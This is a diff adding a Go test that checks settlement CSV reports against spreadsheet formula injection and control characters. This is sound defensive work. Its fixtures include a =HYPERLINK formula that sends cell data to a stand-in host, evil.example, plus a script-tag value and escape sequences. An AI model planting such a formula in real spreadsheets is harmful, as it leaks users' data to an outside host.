@@ -573,3 +573,56 @@ func TestIgnoredColumnTwice(t *testing.T) {
 		t.Errorf("USER_ID twice: %s %q", s.Status, s.Reason)
 	}
 }
+
+// TestReportsNeutralised: exceptions.csv and held.csv, which finance opens
+// in a spreadsheet, never start a cell with a formula; identifiers with
+// control characters are MALFORMED and shown without them; a FUNCTION_CODE
+// Pomelo does not document is MALFORMED, so by_function_code has its keys
+// only; a held transaction whose id starts like a formula is carried by
+// its own id.
+func TestReportsNeutralised(t *testing.T) {
+	f := newFixture(t, scenarioLedger(t))
+	formula := `=HYPERLINK("http://evil.example/"&A1,"click")`
+	f.drop(day1, txHeader+
+		`"`+strings.ReplaceAll(formula, `"`, `""`)+`",2026-12-01 09:00:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar`+"\r\n"+
+		"tx-\x01\x1b[31mRED,2026-12-01 09:01:00,PURCHASE,u5,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n"+
+		"-held,2026-12-01 09:02:00,PURCHASE,u5,2.00,ARS,2.00,ARS,HELD,OTHER,ONLINE,,Bar\r\n",
+		"TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n"+
+			"-held,2.00,ARS,=1+1\n-held,2.00,ARS,<script>alert(1)</script>\n-held,2.00,ARS,FIRST_PRESENTMENT\n")
+	s := f.run(t, day1)
+	if s.Status != settlement.Completed || s.Transactions.Malformed != 1 || s.Presentations.Malformed != 2 ||
+		len(s.Presentations.ByFunctionCode) != 1 || s.Presentations.ByFunctionCode["FIRST_PRESENTMENT"] != 1 {
+		t.Fatalf("%s %q %+v %+v", s.Status, s.Reason, s.Transactions, s.Presentations)
+	}
+	_, x := f.report(t, day1)
+	held, err := f.bucket.Get(context.Background(), "reports/2026/12/01/held.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, file := range map[string][]byte{"exceptions.csv": x, "held.csv": held} {
+		for i, line := range strings.Split(string(file), "\n") {
+			for _, cell := range strings.Split(line, ",") {
+				if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
+					t.Errorf("%s line %d starts a cell with %q: %s", name, i+1, c[:1], line)
+				}
+			}
+		}
+		if strings.ContainsAny(string(file), "\x01\x1b") {
+			t.Errorf("%s holds a control character:\n%q", name, file)
+		}
+	}
+	if !strings.Contains(string(x), "holds a control character") || !strings.Contains(string(x), "unknown FUNCTION_CODE") {
+		t.Errorf("exceptions.csv:\n%s", x)
+	}
+	// The next day carries the held transaction under its own id.
+	day2 := nextDay(day1)
+	f.clock = f.clock.AddDate(0, 0, 1)
+	f.drop(day2, txHeader, "TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n")
+	if s := f.run(t, day2); s.Transactions.HeldCarried != 1 {
+		t.Errorf("day 2: %+v", s.Transactions)
+	}
+	_, x2 := f.report(t, day2)
+	if !strings.Contains(string(x2), "'-held,HELD") {
+		t.Errorf("day 2's exceptions.csv:\n%s", x2)
+	}
+}
